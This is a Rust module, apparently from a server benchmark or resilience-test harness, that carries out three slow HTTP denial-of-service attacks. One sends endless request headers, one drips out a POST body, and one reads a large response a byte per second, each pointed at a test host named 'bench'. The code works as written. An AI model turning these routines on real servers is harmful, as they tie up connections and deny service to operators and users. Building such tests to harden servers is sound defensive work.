//! Attackers that take their time: every connection costs them nothing, and the gate a place.

use std::io;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::sleep;

use crate::target::{Target, drain};

/// How often each of them moves.
const NOW_AND_THEN: Duration = Duration::from_secs(1);

/// A head that never ends.
pub(crate) async fn head(target: &Target, number: usize) -> io::Result<()> {
    drip(target.connect(number).await?, "GET / HTTP/1.1\r\nHost: bench\r\nX-Slow: ").await
}

/// A body that never ends.
pub(crate) async fn body(target: &Target, number: usize) -> io::Result<()> {
    let head =
        "POST /upload HTTP/1.1\r\nHost: bench\r\nUser-Agent: Mozilla/5.0\r\nContent-Length: 1000000\r\n\r\n";
    drip(target.connect(number).await?, head).await
}

/// An answer that is read for ever.
pub(crate) async fn reader(target: &Target, number: usize) -> io::Result<()> {
    let mut stream = target.connect_small(number).await?;
    stream.write_all(b"GET /large HTTP/1.1\r\nHost: bench\r\nUser-Agent: Mozilla/5.0\r\n\r\n").await?;
    loop {
        stream.read_u8().await?;
        sleep(NOW_AND_THEN).await;
    }
}

async fn drip(mut stream: TcpStream, begin: &str) -> io::Result<()> {
    stream.write_all(begin.as_bytes()).await?;
    let (mut reader, mut writer) = stream.split();
    let dripping = async {
        loop {
            sleep(NOW_AND_THEN).await;
            writer.write_u8(b'x').await?;
        }
    };
    tokio::select! {
        ended = drain(&mut reader) => ended,
        ended = dripping => ended,
    }
}
